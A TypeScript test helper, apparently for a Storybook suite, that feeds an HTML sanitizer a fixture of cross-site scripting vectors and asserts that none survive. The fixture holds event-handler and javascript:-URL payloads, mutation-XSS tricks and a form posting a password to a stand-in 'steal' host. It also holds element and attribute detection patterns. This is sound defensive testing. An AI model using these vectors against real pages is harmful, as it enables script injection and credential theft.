import { expect } from 'storybook/test'

const MARK = 'hostile'

const run = `document.body.dataset.${MARK}='ran'`

/** HTML that an attacker could write into the backend; each part tries to run a script or to load something. */
export const hostileHtml = `
  <p>Avant.</p>
  <script>${run}</script>
  <img src="uploads/x" onerror="${run}" alt="Image piégée">
  <p onclick="${run}" style="position:fixed;inset:0" class="x" id="contenu">Paragraphe piégé</p>
  <a href="javascript:${run}">Lien piégé</a>
  <a href="java&#10;script:${run}">Lien coupé</a>
  <a href="data:text/html,<script>${run}</script>">Lien de données</a>
  <iframe src="https://elsewhere.test/frame" srcdoc="<script>parent.${run}</script>"></iframe>
  <object data="https://elsewhere.test/object"></object><embed src="https://elsewhere.test/embed">
  <link rel="stylesheet" href="https://elsewhere.test/style.css"><base href="https://elsewhere.test/">
  <meta http-equiv="refresh" content="0;url=https://elsewhere.test/">
  <style>body { display: none }</style>
  <form action="https://elsewhere.test/steal"><input name="password"><button>Envoyer</button></form>
  <svg onload="${run}"><use href="https://elsewhere.test/x.svg#y"></use></svg>
  <math><mtext><table><mglyph><style><img src="x" onerror="${run}"></style></mglyph></table></mtext></math>
  <noscript><p title="</noscript><img src=x onerror=${run}>"></p></noscript>
  <video src="https://elsewhere.test/film.mp4" autoplay onloadstart="${run}"></video>
  <p>Après.</p>
`

const forbidden =
  'script, iframe, object, embed, link, base, meta, style, form, input, button, svg, math, noscript, video'

/** Checks that nothing of `hostileHtml` ran, and that `element` contains nothing that could run. */
export const expectHarmless = async (element: HTMLElement): Promise<void> => {
  const elements = [...element.querySelectorAll('*')]
  const attributes = elements.flatMap(({ attributes: all }) => Array.from(all))
  await expect(elements.filter((node) => node.matches(forbidden))).toEqual([])
  await expect(
    attributes.filter(({ name }) => /^on|^style$|^srcdoc$|^id$|^name$|^class$/.test(name)),
  ).toEqual([])
  await expect(attributes.filter(({ value }) => /script:|data:text/i.test(value))).toEqual([])
  // The frame is a link to its address; nothing else leads there, and nothing loads from there.
  const leading = attributes.filter(({ value }) => /elsewhere\.test/i.test(value))
  await expect(leading.map(({ ownerElement, value }) => `${ownerElement?.tagName} ${value}`)).toEqual([
    'A https://elsewhere.test/frame',
  ])
  // Waits for the error event of any picture that was not removed.
  await Promise.all([...element.querySelectorAll('img')].map((image) => image.decode().catch(() => null)))
  await expect(document.body.dataset[MARK]).toBeUndefined()
}
